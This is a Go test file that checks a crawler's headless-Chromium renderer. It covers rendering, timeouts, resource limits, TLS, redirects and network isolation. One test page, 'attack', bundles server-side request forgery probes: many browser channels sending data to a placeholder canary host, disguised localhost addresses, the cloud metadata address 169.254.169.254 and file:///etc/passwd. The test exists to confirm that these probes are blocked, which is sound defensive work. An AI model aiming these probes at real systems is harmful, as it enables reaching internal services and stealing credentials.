package crawler_test

import (
	"context"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"pantau/crawler"
	"pantau/crawler/render"
	"pantau/internal/snapshot"
)

// rendering is a client that renders; the test is skipped where nothing can.
func rendering(t *testing.T, allow ...string) *crawler.Client {
	t.Helper()
	return renderingWith(t, render.Options{}, allow...)
}

func renderingWith(t *testing.T, o render.Options, allow ...string) *crawler.Client {
	t.Helper()
	var err error
	if o.Folder, err = os.MkdirTemp("", "render"); err != nil { // t.TempDir's path is too long for Chromium
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(o.Folder) })
	browsers := render.New(o)
	if _, err := browsers.Find(); err != nil && o.Path == "" {
		t.Skip("no Chromium is installed here; scripts/setup installs it")
	}
	t.Cleanup(func() {
		if left, err := os.ReadDir(o.Folder); err != nil || len(left) > 0 {
			t.Errorf("profiles are left behind: %v, %v", left, err)
		}
	})
	options := crawler.Options{Version: "test", Retries: -1, Browsers: browsers}
	for _, a := range allow {
		options.Allow = append(options.Allow, netip.MustParsePrefix(a))
	}
	c := crawler.New(options)
	t.Cleanup(c.Close)
	return c
}

func dynamic(address string, r snapshot.Render) snapshot.Source {
	return snapshot.Source{ID: "js", Type: snapshot.Page, URL: address, Render: &r, Access: snapshot.Access{IgnoreRobots: true, Timeout: 10 * time.Second}}
}

// visited looks once at a source.
func visited(t *testing.T, c *crawler.Client, s snapshot.Source) *snapshot.Capture {
	t.Helper()
	got, err := c.Fetch(t.Context(), s, snapshot.Validators{ETag: `"1"`}, crawler.One(s))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { got.Close() })
	return got
}

// text is the rendered page.
func text(t *testing.T, c *snapshot.Capture) string {
	t.Helper()
	last := c.Last()
	if last == nil {
		t.Fatalf("nothing was rendered: %v", c.Responses[len(c.Responses)-1].Fault)
	}
	b, err := last.Body.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// failure is why nothing was rendered.
func failure(t *testing.T, c *snapshot.Capture) *snapshot.Fault {
	t.Helper()
	if last := c.Last(); last != nil {
		t.Fatalf("it was rendered: %s", text(t, c))
	}
	return c.Responses[len(c.Responses)-1].Fault
}

// serving serves pages by path.
func serving(t *testing.T, pages map[string]string) string {
	t.Helper()
	srv := httptest.NewServer(paths(pages))
	t.Cleanup(srv.Close)
	return srv.URL
}

func paths(pages map[string]string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if strings.HasSuffix(r.URL.Path, ".json") {
			w.Header().Set("Content-Type", "application/json")
		}
		io.WriteString(w, body)
	})
}

const shell = `<!doctype html><html><head><title>Peraturan</title></head><body><noscript>Aktifkan JavaScript</noscript><div id="app">Memuat</div>
<script>fetch("/data.json").then(r => r.json()).then(d => { document.getElementById("app").innerText = d.text })</script></body></html>`

func TestRender(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	site := serving(t, map[string]string{"/": shell, "/data.json": `{"text": "Pasal 1 berlaku"}`})
	got := visited(t, c, dynamic(site+"/", snapshot.Render{}))
	html := text(t, got)
	if !strings.Contains(html, `<div id="app">Pasal 1 berlaku</div>`) || strings.Contains(html, "Aktifkan") {
		t.Errorf("rendered: %s", html)
	}
	if len(got.Responses) != 2 || got.Evidence() != snapshot.EvidenceRendered {
		t.Fatalf("%d answers, evidence %s", len(got.Responses), got.Evidence())
	}
	sent, made := got.Wire(), got.Last()
	if body, err := sent.Body.Bytes(); err != nil || string(body) != shell || !sent.Raw {
		t.Errorf("what the server sent: %q, %v", body, err)
	}
	if sent.Peer == "" || sent.Get("Date") == "" || sent.HeaderSorted || len(sent.RequestHeader) == 0 {
		t.Errorf("the evidence of what was sent: %+v", sent)
	}
	m := made.Rendering
	if made.Status != http.StatusOK || made.FinalURL != "" || made.Get("ETag") != "" || m == nil {
		t.Fatalf("the rendered answer: %+v", made)
	}
	if !strings.HasPrefix(m.Browser, "Chrome/") || m.Document != site+"/" || m.Asked != 1 || m.Bytes == 0 || len(m.Refused) != 0 {
		t.Errorf("the rendering: %+v", m)
	}
}

// What a page is made of in the browser is read as a reader sees it.
func TestRenderTrees(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	site := serving(t, map[string]string{"/": `<!doctype html><body><x-law><b>Pasal 2</b></x-law><script>
customElements.define("x-law", class extends HTMLElement { connectedCallback() {
  this.attachShadow({mode: "open"}).innerHTML = "<p>sebelum</p><slot></slot><p>sesudah</p>" } });
let deep = document.body; for (let n = 0; n < 400; n++) { const d = document.createElement("div"); deep.append(d); deep = d } deep.textContent = "dalam";
alert("berhenti"); document.body.append("jalan"); history.pushState({}, "", "/pindah");
</script></body>`})
	got := visited(t, c, dynamic(site+"/", snapshot.Render{}))
	html := text(t, got)
	for _, want := range []string{"<x-law><p>sebelum</p><slot><b>Pasal 2</b></slot><p>sesudah</p></x-law>", "dalam", "jalan"} {
		if !strings.Contains(html, want) {
			t.Errorf("%q is not in the page", want)
		}
	}
	if got.Last().FinalURL != site+"/pindah" {
		t.Errorf("the page says it is at %q", got.Last().FinalURL)
	}
}

// The page is asked for once, however its address is written; what is behind #
// is for its scripts.
func TestRenderAsksOnce(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	var asked atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		io.WriteString(w, `<!doctype html><p id=p></p><script>document.getElementById("p").textContent = "di " + location.hash</script>`)
	}))
	t.Cleanup(srv.Close)
	port := srv.URL[strings.LastIndex(srv.URL, ":"):]
	got := visited(t, c, dynamic("http://LOCALHOST"+port+"#/produk/1", snapshot.Render{}))
	if html := text(t, got); !strings.Contains(html, "di #/produk/1") {
		t.Errorf("rendered: %s", html)
	}
	if n := asked.Load(); n != 1 || len(got.Responses) != 2 || got.Wire() == got.Last() || got.Last().FinalURL != "" {
		t.Errorf("asked %d times, %d answers, at %q", n, len(got.Responses), got.Last().FinalURL)
	}
}

func TestRenderWaits(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	site := serving(t, map[string]string{
		"/late":    `<!doctype html><p>awal</p><script>setTimeout(() => { document.body.innerHTML = "<table id=t><tr><td>akhir</table>" }, 1500)</script>`,
		"/endless": `<!doctype html><p>awal</p><script>for (;;);</script>`,
	})
	if html := text(t, visited(t, c, dynamic(site+"/late", snapshot.Render{Wait: "#t td"}))); !strings.Contains(html, "akhir") {
		t.Errorf("it did not wait: %s", html)
	}
	for _, tt := range []struct {
		path, wait, reason, says string
	}{
		{"/late", "#u", snapshot.ReasonTimeout, `nothing on it fits wait "#u"`},
		{"/late", "p:contains(x)", snapshot.ReasonBrowser, "not understood"},
		{"/endless", "", snapshot.ReasonTimeout, "do not come to an end"},
	} {
		f := failure(t, visited(t, c, dynamic(site+tt.path, snapshot.Render{Wait: tt.wait, Timeout: 2 * time.Second})))
		if f.Reason != tt.reason || !strings.Contains(f.Detail, tt.says) {
			t.Errorf("%s until %q: %s: %s", tt.path, tt.wait, f.Reason, f.Detail)
		}
	}
}

// A request without an end is named: nobody can tell what it would bring.
func TestRenderNamesWhatItWaitsFor(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	mux := http.NewServeMux()
	mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, `<!doctype html><p>a</p><script>fetch("/slow")</script>`)
	})
	mux.HandleFunc("/slow", func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	f := failure(t, visited(t, c, dynamic(srv.URL+"/", snapshot.Render{Timeout: 2 * time.Second})))
	if f.Reason != snapshot.ReasonTimeout || !strings.Contains(f.Detail, srv.URL+"/slow") {
		t.Errorf("%s: %s", f.Reason, f.Detail)
	}
}

// Nothing is carried from one look to the next.
func TestRenderForgets(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	site := serving(t, map[string]string{"/": `<!doctype html><p id=p></p><script>
document.getElementById("p").textContent = "dulu:" + (localStorage.getItem("k") || "") + document.cookie + ";";
localStorage.setItem("k", "ingat"); document.cookie = "c=ingat; max-age=9999"</script>`})
	for range 2 {
		if html := text(t, visited(t, c, dynamic(site+"/", snapshot.Render{}))); !strings.Contains(html, ">dulu:;<") {
			t.Errorf("something was remembered: %s", html)
		}
	}
}

func TestRenderOverTLS(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	srv := httptest.NewTLSServer(paths(map[string]string{"/": shell, "/data.json": `{"text": "Pasal 1 berlaku"}`}))
	t.Cleanup(srv.Close)
	s := dynamic(srv.URL+"/", snapshot.Render{})
	s.Access.CA = string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw}))
	got := visited(t, c, s)
	if html := text(t, got); !strings.Contains(html, "Pasal 1 berlaku") {
		t.Errorf("rendered: %s", html)
	}
	if got.Wire().TLSLeaf == "" {
		t.Error("the certificate is not in the evidence")
	}
}

// A page that sends the browser on is the page it sends it to, with the
// evidence of that one; robots.txt is asked there too.
func TestRenderFollowsThePage(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	site := serving(t, map[string]string{
		"/":           `<!doctype html><p>tunggu</p><script>location.href = "/baru?x=1#y"</script>`,
		"/baru":       `<!doctype html><p>Pasal baru</p>`,
		"/closed":     `<!doctype html><p>tunggu</p><script>location.href = "/tertutup"</script>`,
		"/tertutup":   `<!doctype html><p>rahasia</p>`,
		"/gone":       `<!doctype html><p>tunggu</p><script>location.href = "/hilang"</script>`,
		"/away":       `<!doctype html><p>tunggu</p><script>location.href = "http://lain." + "example.com/"</script>`,
		"/robots.txt": "User-agent: *\nDisallow: /tertutup\n",
	})
	s := dynamic(site+"/", snapshot.Render{})
	s.Access.IgnoreRobots = false
	got := visited(t, c, s)
	if html := text(t, got); !strings.Contains(html, "Pasal baru") {
		t.Errorf("rendered: %s", html)
	}
	if w := got.Wire(); w.Request.URL != site+"/baru?x=1" || w.Status != http.StatusOK || w.Peer == "" || len(w.Header) == 0 {
		t.Errorf("the evidence is of %+v", w)
	}
	for _, tt := range []struct{ path, reason string }{
		{"/closed", snapshot.ReasonRobots},
		{"/gone", snapshot.ReasonStatus},
		{"/away", snapshot.ReasonRedirect},
	} {
		s.URL = site + tt.path
		if f := failure(t, visited(t, c, s)); f.Reason != tt.reason {
			t.Errorf("%s: %s: %s", tt.path, f.Reason, f.Detail)
		}
	}
}

func TestRenderFails(t *testing.T) {
	site := serving(t, map[string]string{
		"/":       `<!doctype html><p>a</p>`,
		"/many":   `<!doctype html><p>a</p><script>for (let n = 0; n < 1000; n++) fetch("/?" + n)</script>`,
		"/much":   `<!doctype html><p>a</p><script>fetch("/big.json")</script>`,
		"/long":   `<!doctype html><p>a</p><script>document.body.textContent = "x".repeat(300000)</script>`,
		"/greedy": `<!doctype html><p>a</p><script>const a = []; for (;;) a.push(new Uint8Array(1 << 24).fill(1))</script>`,

		"/big.json": strings.Repeat("x", 200000),
	})
	for _, tt := range []struct{ path, reason, says string }{
		{"/many", snapshot.ReasonLimit, "more than 300 things"},
		{"/much", snapshot.ReasonLimit, "for all that the page asks for"},
		{"/long", snapshot.ReasonLimit, "the rendered page has 300"},
	} {
		c := rendering(t, "127.0.0.0/8")
		s := dynamic(site+tt.path, snapshot.Render{Timeout: 10 * time.Second})
		s.Access.WireLimit, s.Access.DecodedLimit = 100000, 100000
		if f := failure(t, visited(t, c, s)); f.Reason != tt.reason || !strings.Contains(f.Detail, tt.says) {
			t.Errorf("%s: %s: %s", tt.path, f.Reason, f.Detail)
		}
	}
	small := renderingWith(t, render.Options{Memory: 400 << 20}, "127.0.0.0/8")
	if f := failure(t, visited(t, small, dynamic(site+"/greedy", snapshot.Render{}))); f.Reason != snapshot.ReasonLimit || !strings.Contains(f.Detail, "memory") {
		t.Errorf("memory: %s: %s", f.Reason, f.Detail)
	}
	none := renderingWith(t, render.Options{Path: "/nowhere/chromium"}, "127.0.0.0/8")
	if f := failure(t, visited(t, none, dynamic(site+"/", snapshot.Render{}))); f.Reason != snapshot.ReasonBrowser {
		t.Errorf("no browser: %s: %s", f.Reason, f.Detail)
	}
	gone := rendering(t, "127.0.0.0/8")
	ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
	defer cancel()
	s := dynamic(site+"/", snapshot.Render{})
	got, err := gone.Fetch(ctx, s, snapshot.Validators{}, crawler.One(s))
	if err == nil || got.Last() != nil {
		t.Errorf("stopped while it rendered: %v, %v", err, got.Last())
	}
	got.Close()
}

// canary is what no page may reach.
type canary struct {
	address string
	hits    atomic.Int64
}

func newCanary(t *testing.T, at string) *canary {
	t.Helper()
	l, err := net.Listen("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	c := &canary{address: l.Addr().String()}
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.hits.Add(1)
			conn.Close()
		}
	})
	datagrams, err := net.ListenPacket("udp", c.address)
	if err != nil {
		t.Fatal(err)
	}
	wg.Go(func() {
		for {
			if _, _, err := datagrams.ReadFrom(make([]byte, 1500)); err != nil {
				return
			}
			c.hits.Add(1)
		}
	})
	t.Cleanup(func() { l.Close(); datagrams.Close(); wg.Wait() })
	return c
}

// attack tries every way out that a page has. It names all addresses, so that
// the text of the page is no reason to refuse one.
const attack = `<!doctype html><html><head>
<link rel="dns-prefetch" href="http://CANARY/"><link rel="preconnect" href="http://CANARY/"><link rel="prefetch" href="http://CANARY/pf">
<link rel="stylesheet" href="http://CANARY/css"><script src="http://CANARY/js"></script><script src="/hop"></script>
</head><body><p id=p>mulai</p><iframe src="http://CANARY/frame"></iframe><iframe src="/hop?frame"></iframe><img src="http://CANARY/img">
<object data="http://CANARY/o"></object><video src="http://CANARY/v" preload="auto" autoplay muted></video>
<form id=f method=post action="http://CANARY/form" target=t><input name=a></form><iframe name=t></iframe>
<script>
const names = ["http://CANARY/", "https://CANARY/", "http://localhost:PORT/", "http://x.localhost:PORT/", "http://[::ffff:127.0.0.1]:PORT/", "http://2130706433:PORT/",
  "http://[::1]:PORT/", "http://HOST:PORT/", "http://localhost/", "http://169.254.169.254/latest/meta-data/", "/hop", "file:///etc/passwd"];
async function go() {
  const got = [];
  for (const n of names) {
    try { const r = await fetch(n, {mode: "no-cors", method: "POST", body: "x"}); got.push(n + " " + r.type + r.status) } catch (e) { }
    try { await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open("GET", n); x.send() }) } catch (e) { }
    try { navigator.sendBeacon(n, "x") } catch (e) { }
    try { new EventSource(n).onerror = function () { this.close() } } catch (e) { }
    try { new Worker(URL.createObjectURL(new Blob(["fetch('" + n + "'); try { importScripts('" + n + "') } catch (e) {}"]))) } catch (e) { }
  }
  for (const n of ["ws://CANARY/", "wss://CANARY/", "ws://localhost:PORT/", "ws://SELF/"]) try {
    await new Promise((ok) => { const w = new WebSocket(n); w.onopen = () => { got.push(n); ok() }; w.onerror = ok; setTimeout(ok, 1500) })
  } catch (e) { }
  try {
    const rtc = new RTCPeerConnection({iceServers: [{urls: "stun:CANARY"}, {urls: "turn:CANARY?transport=tcp", username: "u", credential: "c"}]});
    rtc.createDataChannel("d"); await rtc.setLocalDescription(await rtc.createOffer());
    await new Promise((ok) => setTimeout(ok, 1500));
  } catch (e) { }
  try { await Promise.race([new WebTransport("https://CANARY/").ready, new Promise((ok) => setTimeout(ok, 1000))]) } catch (e) { }
  try { document.getElementById("f").submit() } catch (e) { }
  try { window.open("http://CANARY/open") } catch (e) { }
  document.getElementById("p").textContent = "selesai " + got.join(" | ");
  document.getElementById("p").id = "q";
}
go();
</script></body></html>`

// A page that the configuration lets be watched in a private network cannot
// reach anything else there: by no redirect, script, socket or name.
func TestRenderedPageReachesNothingPrivate(t *testing.T) {
	c := rendering(t, "127.0.0.1/32")
	other := newCanary(t, "127.0.0.2:0")
	_, port, _ := net.SplitHostPort(other.address)
	same := newCanary(t, "127.0.0.1:"+port) // the address that is allowed, another port
	six := []*canary{}
	if l, err := net.Listen("tcp", "[::1]:0"); err == nil {
		l.Close()
		six = append(six, newCanary(t, "[::1]:"+port))
	}
	host, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	for _, target := range []*canary{other, same} {
		mux := http.NewServeMux()
		srv := httptest.NewServer(mux)
		t.Cleanup(srv.Close)
		page := strings.NewReplacer("CANARY", target.address, "PORT", port, "HOST", host, "SELF", strings.TrimPrefix(srv.URL, "http://")).Replace(attack)
		mux.HandleFunc("/{$}", func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, page) })
		mux.HandleFunc("/hop", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://"+target.address+"/hopped", http.StatusTemporaryRedirect)
		})
		// The page may ask the first canary's host by the word of a person: it is
		// the guard that refuses its address.
		got := visited(t, c, dynamic(srv.URL+"/", snapshot.Render{Wait: "#q", Timeout: 60 * time.Second, Hosts: []string{other.address}}))
		html := text(t, got)
		if !strings.Contains(html, "selesai") {
			t.Fatalf("the page did not try everything: %s", html)
		}
		if strings.Contains(html, " | ws://") || strings.Contains(html, " | wss://") {
			t.Errorf("something answered: %s", html[strings.Index(html, "selesai"):][:200])
		}
		if !slices.Contains(got.Last().Rendering.Refused, target.address) {
			t.Errorf("that %s was refused is not in the evidence: %v", target.address, got.Last().Rendering.Refused)
		}
	}
	for _, k := range append(six, other, same) {
		if n := k.hits.Load(); n > 0 {
			t.Errorf("%s was reached %d times", k.address, n)
		}
	}
}

// What a person allows a page it may reach.
func TestRenderHosts(t *testing.T) {
	c := rendering(t, "127.0.0.0/8")
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "Pasal 9")
	}))
	t.Cleanup(api.Close)
	u, err := url.Parse(api.URL)
	if err != nil {
		t.Fatal(err)
	}
	site := serving(t, map[string]string{"/": `<!doctype html><p id=p>kosong</p><script>fetch("` + api.URL + `/").then(r => r.text()).then(s => { document.getElementById("p").textContent = s })</script>`})
	if html := text(t, visited(t, c, dynamic(site+"/", snapshot.Render{}))); !strings.Contains(html, "kosong") {
		t.Errorf("it was let to another port of the private network: %s", html)
	}
	if html := text(t, visited(t, c, dynamic(site+"/", snapshot.Render{Hosts: []string{u.Host}}))); !strings.Contains(html, "Pasal 9") {
		t.Errorf("it was not let: %s", html)
	}
}
